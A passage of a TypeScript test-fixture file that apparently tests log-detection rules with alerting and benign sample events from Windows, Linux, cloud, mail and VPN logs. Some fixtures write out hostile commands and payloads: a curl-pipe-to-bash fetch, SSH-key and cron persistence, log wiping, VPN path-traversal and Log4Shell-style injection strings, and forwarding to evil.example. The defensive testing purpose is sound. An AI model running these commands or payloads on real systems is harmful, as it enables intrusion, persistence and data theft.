          eventType: 'AwsConsoleSignIn',
          userIdentity: { type: 'Root', accountId: '1' },
        }),
      ],
    ],
    quiet: [
      [
        cloudtrail({
          eventName: 'ConsoleLogin',
          eventSource: 'signin.amazonaws.com',
          eventType: 'AwsConsoleSignIn',
          userIdentity: { type: 'IAMUser', userName: 'hanako' },
        }),
      ],
      [
        cloudtrail({
          eventName: 'Decrypt',
          eventSource: 'kms.amazonaws.com',
          eventType: 'AwsServiceEvent',
          userIdentity: { type: 'Root' },
        }),
      ],
    ],
  },
  'cloud/aws-trail-stopped': {
    fires: [
      [
        cloudtrail({
          eventName: 'StopLogging',
          eventSource: 'cloudtrail.amazonaws.com',
          eventType: 'AwsApiCall',
          userIdentity: { type: 'IAMUser' },
        }),
      ],
    ],
    quiet: [
      [
        cloudtrail({
          eventName: 'StopLogging',
          eventSource: 'cloudtrail.amazonaws.com',
          errorCode: 'AccessDenied',
          userIdentity: { type: 'IAMUser' },
        }),
      ],
      [
        cloudtrail({
          eventName: 'DescribeTrails',
          eventSource: 'cloudtrail.amazonaws.com',
          userIdentity: { type: 'IAMUser' },
        }),
      ],
    ],
  },
  'cloud/entra-sign-in-from-abroad': {
    fires: [
      [entra({ status: { errorCode: 0 }, location: { countryOrRegion: 'RO' } })],
      [
        JSON.stringify({
          time: new Date(DAY).toISOString(),
          category: 'SignInLogs',
          operationName: 'Sign-in activity',
          resultType: '0',
          properties: {
            id: 'a',
            createdDateTime: new Date(DAY).toISOString(),
            userPrincipalName: 'hanako@example.jp',
            status: { errorCode: 0 },
            location: { countryOrRegion: 'RO' },
          },
        }),
      ],
    ],
    quiet: [
      [entra({ status: { errorCode: 0 }, location: { countryOrRegion: 'JP' } })],
      [entra({ status: { errorCode: 50126 }, location: { countryOrRegion: 'RO' } })],
    ],
  },
  'linux/audit-or-log-stopped': {
    fires: [
      audited('systemctl', 'stop', 'auditd'),
      audited('service', 'rsyslog', 'stop'),
      audited('sh', '-c', 'cat /dev/null > /var/log/auth.log'),
      audited('auditctl', '-D'),
    ],
    quiet: [
      audited('systemctl', 'status', 'auditd'),
      audited('systemctl', 'restart', 'nginx'),
      audited('cat', '/var/log/syslog'),
    ],
  },
  'linux/download-and-run': {
    fires: [
      audited('sh', '-c', 'curl -fsSL http://198.51.100.9/x | bash'),
      audited('bash', '-c', 'wget -O /tmp/a http://198.51.100.9/a && chmod +x /tmp/a'),
    ],
    quiet: [
      audited('curl', '-O', 'https://example.jp/a.tar.gz'),
      audited('apt-get', 'install', 'wget'),
    ],
  },
  'linux/new-root-user': {
    fires: [
      [
        '<86>1 2026-11-22T01:00:00Z srv01 useradd 7 - - new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=none',
      ],
      ["<86>1 2026-11-22T01:00:00Z srv01 usermod 7 - - add 'hanako' to group 'sudo'"],
    ],
    quiet: [
      [
        '<86>1 2026-11-22T01:00:00Z srv01 useradd 7 - - new user: name=hanako, UID=1001, GID=1001, home=/home/hanako, shell=/bin/bash, from=none',
      ],
      ["<86>1 2026-11-22T01:00:00Z srv01 usermod 7 - - add 'hanako' to group 'developers'"],
    ],
  },
  'linux/persistence-by-key-or-cron': {
    fires: [
      audited('sh', '-c', 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys'),
      audited('sh', '-c', '(crontab -l; echo x) | crontab -'),
    ],
    quiet: [audited('crontab', '-l'), audited('cat', '/home/hanako/.ssh/authorized_keys')],
  },
  'mail/m365-audit-off': {
    fires: [
      [
        m365({
          Operation: 'Set-AdminAuditLogConfig',
          Parameters: [{ Name: 'UnifiedAuditLogIngestionEnabled', Value: 'False' }],
        }),
      ],
      [m365({ Operation: 'Disable-AntiPhishRule' })],
    ],
    quiet: [
      [
        m365({
          Operation: 'Set-AdminAuditLogConfig',
          Parameters: [{ Name: 'UnifiedAuditLogIngestionEnabled', Value: 'True' }],
        }),
      ],
      [m365({ Operation: 'Get-TransportRule' })],
    ],
  },
  'mail/m365-forwarding-rule': {
    fires: [
      [
        m365({
          Operation: 'New-InboxRule',
          Parameters: [{ Name: 'ForwardTo', Value: 'x@evil.example' }],
        }),
      ],
      [
        m365({
          Operation: 'Set-Mailbox',
          Parameters: [{ Name: 'ForwardingSmtpAddress', Value: 'smtp:x@evil.example' }],
        }),
      ],
    ],
    quiet: [
      [m365({ Operation: 'New-InboxRule', Parameters: [{ Name: 'MarkAsRead', Value: 'True' }] })],
      [m365({ Operation: 'Set-Mailbox', Parameters: [{ Name: 'MaxSendSize', Value: '20MB' }] })],
    ],
  },
  'ransomware/hypervisor-machines-stopped': {
    fires: [
      [
        '<13>2026-11-22T01:00:00Z esx01 shell[2099]: [root]: esxcli vm process kill --type=force --world-id=1234',
      ],
    ],
    quiet: [['<13>2026-11-22T01:00:00Z esx01 shell[2099]: [root]: esxcli vm process list']],
  },
  'vpn/device-path-traversal': {
    fires: [
      [access('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession')],
      [access('/api/v1/totp/user-backup-code/../../license/keys-status/%3bid')],
      [access('/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd')],
      [access('/vpn/../vpns/portal/scripts/newbm.pl')],
    ],
    quiet: [
      [access('/remote/login?lang=ja')],
      [access('/index.html?lang=ja')],
      [access('/global-protect/login.esp')],
    ],
  },
  'vpn/fortigate-administrator-added': {
    fires: [
      [
        fortigate(
          'logid="0100044547" type="event" subtype="system" logdesc="Object attribute configured" user="admin" ui="GUI(198.51.100.9)" action="Add" cfgpath="system.admin" cfgobj="support" msg="Add system.admin support"',
        ),
      ],
    ],
    quiet: [
      [
        fortigate(
          'logid="0100044547" type="event" subtype="system" user="admin" action="Edit" cfgpath="firewall.policy" cfgobj="5" msg="Edit firewall.policy 5"',
        ),
      ],
    ],
  },
  'vpn/fortigate-administrator-from-outside': {
    fires: [
      [
        fortigate(
          'logid="0100032001" type="event" subtype="system" logdesc="Admin login successful" user="admin" ui="https(198.51.100.9)" method="https" srcip=198.51.100.9 dstip=192.0.2.1 action="login" status="success" msg="Administrator admin logged in successfully from https(198.51.100.9)"',
        ),
      ],
    ],
    quiet: [
      [
        fortigate(
          'logid="0100032001" type="event" subtype="system" user="admin" ui="https(192.168.1.9)" srcip=192.168.1.9 action="login" status="success"',
        ),
      ],
      [
        fortigate(
          'logid="0100032002" type="event" subtype="system" user="admin" ui="https(198.51.100.9)" srcip=198.51.100.9 action="login" status="failed"',
        ),
      ],
    ],
  },
  'vpn/fortigate-configuration-exported': {
    fires: [
      [
        fortigate(
          'logid="0100032095" type="event" subtype="system" user="admin" ui="GUI(10.0.0.9)" action="download" msg="System config file has been downloaded by user admin via GUI(10.0.0.9)"',
        ),
      ],
    ],
    quiet: [
      [
        fortigate(
          'logid="0100032001" type="event" subtype="system" user="admin" ui="https(10.0.0.9)" srcip=10.0.0.9 action="login" status="success"',
        ),
      ],
      [
        fortigate(
          'logid="0100044547" type="event" subtype="system" user="admin" action="Edit" cfgpath="firewall.policy" cfgobj="5" msg="Edit firewall.policy 5"',
        ),
      ],
    ],
  },
  'vpn/fortigate-sign-in-from-abroad': {
    fires: [
      [
        fortigate(
          'logid="0101039424" type="event" subtype="vpn" action="tunnel-up" tunneltype="ssl-web" remip=198.51.100.9 srccountry="Romania" user="hanako"',
        ),
      ],
    ],
    quiet: [
      [
        fortigate(
          'logid="0101039424" type="event" subtype="vpn" action="tunnel-up" remip=203.0.113.9 srccountry="Japan" user="hanako"',
        ),
      ],
      [
        fortigate(
          'logid="0101039424" type="event" subtype="vpn" action="tunnel-up" remip=10.0.0.9 srccountry="Reserved" user="hanako"',
        ),
      ],
    ],
  },
  'vpn/ivanti-administrator-sign-in': {
    fires: [
      [
        ivanti('ADM20716').replace(
          'Login failed using auth server AD.',
          'Login succeeded for admin/Admin Users.',
        ),
      ],
    ],
    quiet: [[ivanti('AUT24326')]],
  },
}

const times = <T>(n: number, make: (index: number) => T): readonly T[] =>
  Array.from({ length: n }, (_, index) => make(index))
const at = (ms: number, event: SigmaEvent): Step => ({ at: DAY + ms, event })

/** Several events, and when. */
export const SEQUENCES: Readonly<Record<string, Sequence>> = {
  'cloud/entra-second-factor-refused': {
    fires: () =>
      times(5, (n) =>
        entra({ status: { errorCode: 500121 }, location: { countryOrRegion: 'JP' } }, n * 60),
      ),
    quiet: () =>
      times(4, (n) =>
        entra({ status: { errorCode: 500121 }, location: { countryOrRegion: 'JP' } }, n * 60),
      ),
  },
  'directory/account-made-and-deleted': {
    fires: () => [
      at(0, security(4720, { TargetSid: 'S-1-5-21-1-2-3-1200' })),
      at(60 * MINUTE, security(4726, { TargetSid: 'S-1-5-21-1-2-3-1200' })),
    ],
    quiet: () => [
      at(0, security(4720, { TargetSid: 'S-1-5-21-1-2-3-1200' })),
      at(60 * MINUTE, security(4726, { TargetSid: 'S-1-5-21-1-2-3-900' })),
    ],
  },
  'directory/kerberoasting': {
    fires: () =>
      times(5, (n) =>
        at(
          n * 1_000,
          security(4769, {
            TargetUserName: 'hanako@EXAMPLE.JP',
            ServiceName: `svc${n}`,
            TicketEncryptionType: '0x17',
            Status: '0x0',
          }),
        ),
      ),
    quiet: () =>
      times(5, (n) =>
        at(
          n * 1_000,
          security(4769, {
            TargetUserName: 'hanako@EXAMPLE.JP',
            ServiceName: `SRV${n}$`,
            TicketEncryptionType: '0x17',
            Status: '0x0',
          }),
        ),
      ),
  },
  'emotet/discovery-after-loader': {
    fires: () =>
      ['whoami.exe', 'ipconfig.exe', 'systeminfo.exe', 'nltest.exe', 'tasklist.exe'].map(
        (image, n) => at(n * 10_000, ran(image, image)),
      ),
    quiet: () => times(9, (n) => at(n * 10_000, ran('ipconfig.exe', 'ipconfig /all'))),
  },
  'exfiltration/dns-tunnel-names': {
    fires: () =>
      times(30, (n) =>
        at(
          n * 1_000,
          sysmon(22, { QueryName: `${'a'.repeat(48)}${n}.t.evil.example`, Image: 'C:\\a.exe' }),
        ),
      ),
    quiet: () =>
      times(30, (n) =>
        at(
          n * 1_000,
          sysmon(22, { QueryName: `${'a'.repeat(48)}${n}.cloudfront.net`, Image: 'C:\\a.exe' }),
        ),
      ),
  },
  'mail/m365-mass-download': {
    fires: () =>
      times(300, (n) =>
        m365(
          { Operation: 'FileDownloaded', Workload: 'SharePoint', RecordType: 6, ObjectId: `f${n}` },
          n / 60,
        ),
      ),
    quiet: () =>
      times(299, (n) =>
        m365(
          { Operation: 'FileDownloaded', Workload: 'SharePoint', RecordType: 6, ObjectId: `f${n}` },
          n / 60,
        ),
      ),
  },
  'ransomware/many-services-stopped': {
    fires: () => times(15, (n) => at(n * 1_000, ran('net.exe', `net stop service${n} /y`))),
    quiet: () => times(14, (n) => at(n * 1_000, ran('net.exe', `net stop service${n} /y`))),
  },
  'ransomware/mass-encryption-by-extension': {
    fires: () =>
      times(30, (n) => at(n * 500, wrote(`${TEMP}\\a.exe`, `D:\\Shares\\f${n}.xlsx.lockd`))),
    quiet: () =>
      times(60, (n) => at(n * 500, wrote('C:\\Backup\\a.exe', `D:\\Shares\\f${n}.xlsx.tmp`))),
  },
  'ransomware/notes-in-many-folders': {
    fires: () =>
      times(40, (n) => at(n * 500, wrote(`${TEMP}\\a.exe`, `D:\\Shares\\folder${n}\\note.txt`))),
    quiet: () =>
      times(60, (n) =>
        at(n * 500, wrote('C:\\Windows\\explorer.exe', `D:\\Shares\\folder${n}\\note.txt`)),
      ),
  },
  'sign-in/explicit-credentials-many-hosts': {
    fires: () =>
      times(10, (n) =>
        at(
          n * 1_000,
          security(4624, {
            Computer: `PC${n}`,
            LogonType: 3,
            TargetUserName: 'admin',
            IpAddress: '10.0.0.9',
          }),
        ),
      ),
    quiet: () =>
      times(40, (n) =>
        at(
          n * 1_000,
          security(4624, {
            Computer: `PC${n}`,
            LogonType: 3,
            TargetUserName: 'FS01$',
            IpAddress: '10.0.0.9',
          }),
        ),
      ),
  },
  'sign-in/guessing-then-success': {
    fires: () => [
      ...times(10, (n) =>
        at(
          n * 1_000,
          security(4625, { LogonType: 3, TargetUserName: 'admin', IpAddress: '198.51.100.7' }),
        ),
      ),
      at(
        60_000,
        security(4624, { LogonType: 3, TargetUserName: 'admin', IpAddress: '198.51.100.7' }),
      ),
    ],
    quiet: () => [
      ...times(3, (n) =>
        at(
          n * 1_000,
          security(4625, { LogonType: 3, TargetUserName: 'hanako', IpAddress: '10.0.0.7' }),
        ),
      ),
      at(60_000, security(4624, { LogonType: 3, TargetUserName: 'hanako', IpAddress: '10.0.0.7' })),
    ],
  },
  'sign-in/linux-ssh-guessing': {
    fires: () =>
      times(20, (n) => sshd(`Failed password for root from 198.51.100.7 port ${4000 + n} ssh2`, n)),
    quiet: () =>
      times(20, (n) =>
        sshd(
          `Accepted publickey for hanako from 10.0.0.7 port ${4000 + n} ssh2: ED25519 SHA256:x`,
          n,
        ),
      ),
  },
  'sign-in/password-spraying': {
    fires: () =>
      times(10, (n) =>
        at(
          n * 1_000,
          security(4771, {
            TargetUserName: `user${n}`,
            Status: '0x18',
            IpAddress: '::ffff:10.0.0.9',
          }),
        ),
      ),
    quiet: () =>
      times(10, (n) =>
        at(
          n * 1_000,
          security(4771, {
            TargetUserName: 'hanako',
            Status: '0x18',
            IpAddress: '::ffff:10.0.0.9',
          }),
        ),
      ),
  },
  'sign-in/remote-desktop-guessing': {
    fires: () =>
      times(20, (n) =>
        at(
          n * 1_000,
          security(4625, { LogonType: 10, TargetUserName: `u${n % 3}`, IpAddress: '198.51.100.7' }),
        ),
      ),
    quiet: () =>
      times(19, (n) =>
        at(
          n * 1_000,
          security(4625, { LogonType: 10, TargetUserName: 'hanako', IpAddress: '10.0.0.7' }),
        ),
      ),
  },
  'vpn/fortigate-guessing': {
    fires: () =>
      times(15, (n) =>
        fortigate(
          'logid="0101039426" type="event" subtype="vpn" action="ssl-login-fail" remip=198.51.100.9 user="admin" reason="sslvpn_login_permission_denied"',
          n / 4,
        ),
      ),
    quiet: () =>
      times(14, (n) =>
        fortigate(
          'logid="0101039426" type="event" subtype="vpn" action="ssl-login-fail" remip=198.51.100.9 user="admin" reason="x"',
          n / 4,
        ),
      ),
  },
  'vpn/fortigate-two-countries': {
    fires: () =>
      ['Japan', 'Romania'].map((country, n) =>
        fortigate(
          `logid="0101039424" type="event" subtype="vpn" action="tunnel-up" remip=198.51.100.${n} srccountry="${country}" user="hanako"`,
          n * 30,
        ),
      ),
    quiet: () =>
      ['Japan', 'Japan'].map((country, n) =>
        fortigate(
          `logid="0101039424" type="event" subtype="vpn" action="tunnel-up" remip=198.51.100.${n} srccountry="${country}" user="hanako"`,
          n * 30,
        ),
      ),
  },
  'vpn/ivanti-sign-in-from-odd-place': {
    fires: () => times(15, (n) => ivanti('AUT23457', '198.51.100.7', n / 4)),
    quiet: () => times(15, (n) => ivanti('AUT23457', `198.51.100.${n}`, n / 4)),
  },
  'web/injection-attempts': {
    fires: () =>
      times(10, (n) =>
        access(
          [
            '/.env',
            '/a?id=1%27%20or%20%271%27=%271',
            '/.git/config',
            `/?x=$${'{jndi:ldap://x}'}`,
            '/a.php?p=../../etc/passwd',
          ][n % 5] ?? '/',
          '198.51.100.7',
          n,
        ),
      ),
    quiet: () => times(30, (n) => access(`/products?page=${n}`, '198.51.100.7', n)),
  },
}

/** None of this is an alert. */
export const EVERYDAY: readonly Given[] = [
  // Backup software.
  ran(
    'vssadmin.exe',
    'vssadmin list writers',
    'C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe',
  ),
  ran(
    'C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\VeeamAgent.exe',
    'VeeamAgent.exe -c backup -o D:\\Backup\\srv.vbk',
  ),
  ran('wbadmin.exe', 'wbadmin start systemstatebackup -backupTarget:E: -quiet'),
  ran('Robocopy.exe', 'robocopy D:\\Shares E:\\Mirror /MIR /R:1 /LOG:C:\\logs\\r.log'),
  ran('C:\\Program Files\\7-Zip\\7z.exe', '7z a E:\\archive\\2026-11.7z D:\\Shares\\2026-11'),
  wrote('C:\\Program Files\\Acronis\\BackupAndRecovery\\mms.exe', 'E:\\Backup\\srv01.tibx'),
  // Updates.
  ran('msiexec.exe', 'C:\\Windows\\System32\\msiexec.exe /V'),
  ran('wusa.exe', 'wusa.exe C:\\Windows\\Temp\\kb5031234.msu /quiet /norestart'),
  ran(
    'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
    'GoogleUpdate.exe /ua /installsource scheduler',
  ),
  ran(
    'schtasks.exe',
    'schtasks /create /tn "MicrosoftEdgeUpdateTaskMachineUA" /tr "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"',
  ),
  ran(
    'rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\AppXDeploymentExtensions.OneCore.dll,ShellRefresh',
  ),
  system(7045, {
    ServiceName: 'MozillaMaintenance',
    ImagePath: '"C:\\Program Files (x86)\\Mozilla Maintenance Service\\maintenanceservice.exe"',
  }),
  system(7036, { param1: 'Windows Update', param2: 'stopped' }),
  defender(2000, { 'Current security intelligence Version': '1.401.1.0' }),
  defender(1001),
  // Office.
  ran(
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    'chrome.exe --single-argument https://example.jp/',
    WORD.replace('WINWORD', 'OUTLOOK'),
  ),
  ran(
    'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe',
    'Acrobat.exe "a.pdf"',
    WORD.replace('WINWORD', 'OUTLOOK'),
  ),
  ran('splwow64.exe', 'splwow64.exe 12288', WORD),
  wrote(WORD, 'C:\\Users\\hanako\\Documents\\見積書.docx'),
  wrote(WORD.replace('WINWORD', 'EXCEL'), 'D:\\Shares\\売上.xlsx'),
  sysmon(3, { Image: WORD, Initiated: 'true', DestinationIp: '52.109.8.1', DestinationPort: 443 }),
  set(
    'HKU\\S-1-5-21\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\LastPurgeTime',
    'DWORD (0x01b2c3d4)',
  ),
  // Administrators.
  ran(
    POWERSHELL,
    'powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\\scripts\\inventory.ps1',
  ),
  ran(POWERSHELL, 'powershell Get-EventLog -LogName System -Newest 50'),
  ran(POWERSHELL, 'powershell Restart-Service Spooler'),
  ran('net.exe', 'net use Z: \\\\fs01\\share /persistent:yes'),
  ran('net.exe', 'net start spooler'),
  ran('gpupdate.exe', 'gpupdate /force'),
  ran('ipconfig.exe', 'ipconfig /flushdns'),
  ran('reg.exe', 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion'),
  ran('wevtutil.exe', 'wevtutil epl System C:\\logs\\system.evtx'),
  ran('certutil.exe', 'certutil -hashfile setup.exe SHA256'),
  ran('netsh.exe', 'netsh interface ip show config'),
  ran('taskkill.exe', 'taskkill /im notepad.exe'),
  ran(
    'C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe',
    '"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"',
  ),
  ran('mstsc.exe', 'mstsc /v:srv01'),
  security(4624, { LogonType: 10, TargetUserName: 'admin', IpAddress: '192.168.1.20' }),
  security(4624, { LogonType: 2, TargetUserName: 'hanako', IpAddress: '-' }),
  security(4625, { LogonType: 2, TargetUserName: 'hanako', IpAddress: '127.0.0.1' }),
  security(4672, { SubjectUserName: 'admin' }),
  security(4769, {
    TargetUserName: 'hanako@EXAMPLE.JP',
    ServiceName: 'FS01$',
    TicketEncryptionType: '0x12',
    Status: '0x0',
  }),
  sysmon(10, {
    SourceImage: `${SYSTEM32}\\csrss.exe`,
    TargetImage: `${SYSTEM32}\\lsass.exe`,
    GrantedAccess: '0x1fffff',
    CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c534',
  }),
  sysmon(6, { ImageLoaded: 'C:\\Windows\\System32\\drivers\\nvlddmkm.sys', Signed: 'true' }),
  sysmon(22, {
    QueryName: 'www.example.jp',
    Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  }),
  // Linux.
  audited('systemctl', 'restart', 'nginx'),
  audited('apt-get', 'upgrade', '-y'),
  audited('logrotate', '/etc/logrotate.conf'),
  audited('rsync', '-a', '/srv/data/', '/mnt/backup/data/'),
  audited('rm', '-f', '/var/tmp/build.log'),
  [sshd('Accepted publickey for hanako from 10.0.0.7 port 50000 ssh2: ED25519 SHA256:x')],
  [
    '<86>1 2026-11-22T01:00:00Z srv01 sudo 9 - - hanako : TTY=pts/0 ; PWD=/home/hanako ; USER=root ; COMMAND=/usr/bin/apt update',
  ],
  // Devices and the cloud.
  [
    fortigate(
      'logid="0000000013" type="traffic" subtype="forward" srcip=10.0.0.7 srccountry="Reserved" dstip=198.51.100.9 dstcountry="United States" dstport=443 action="close"',
    ),
  ],
  [
    fortigate(
      'logid="0100032003" type="event" subtype="system" user="admin" ui="https(10.0.0.9)" srcip=10.0.0.9 action="logout" status="success"',
    ),
  ],
  [
    fortigate(
      'logid="0101039424" type="event" subtype="vpn" action="tunnel-up" tunneltype="ssl-tunnel" remip=203.0.113.9 srccountry="Japan" user="hanako"',
    ),
  ],
  [access('/index.html')],
  [access('/search?q=union+jack')],
  [m365({ Operation: 'MailItemsAccessed' })],
  [m365({ Operation: 'FileDownloaded', Workload: 'SharePoint', RecordType: 6 })],
  [entra({ status: { errorCode: 0 }, location: { countryOrRegion: 'JP' } })],
  [
    cloudtrail({
      eventName: 'DescribeInstances',
      eventSource: 'ec2.amazonaws.com',
      eventType: 'AwsApiCall',
      userIdentity: { type: 'AssumedRole' },
    }),
  ],
]
